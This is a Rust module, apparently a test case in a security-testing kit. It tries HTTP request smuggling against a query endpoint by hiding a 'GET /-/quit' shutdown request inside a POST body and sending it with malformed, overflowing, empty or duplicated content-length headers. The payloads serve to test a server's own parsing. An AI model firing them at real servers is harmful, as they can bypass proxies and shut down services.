//! Announces another length than it sends, so that the rest is taken for a request of its own.

use crate::kit::{Attack, told};
use crate::message::Message;

pub(crate) const ATTACK: Attack = Attack::of_query(|order| {
    let smuggled = "query=up\r\n\r\nGET /-/quit HTTP/1.1\r\nhost: x\r\n\r\n";
    let lengths = [
        "0",
        "8",
        "+8",
        "8, 8",
        "0x8",
        "-1",
        "9999",
        "18446744073709551616",
        " 8",
        "",
    ];
    let announced = lengths.map(|length| {
        Message::post(&order.authority, "/api/v1/query", smuggled)
            .field("content-length", length)
            .send()
    });
    let twice = Message::post(&order.authority, "/api/v1/query", smuggled)
        .field("content-length", "8")
        .field("content-length", smuggled.len().to_string())
        .send();
    let of_a_get = Message::get(&order.authority, "/api/v1/query?query=up")
        .body(smuggled)
        .field("content-length", "0")
        .send();
    // A body announced with its right length goes out, and is one request with a strange form.
    let rightly = Message::post(&order.authority, "/api/v1/query", smuggled)
        .field("content-length", smuggled.len().to_string())
        .send();
    told(announced.into_iter().chain([twice, of_a_get, rightly]))
});
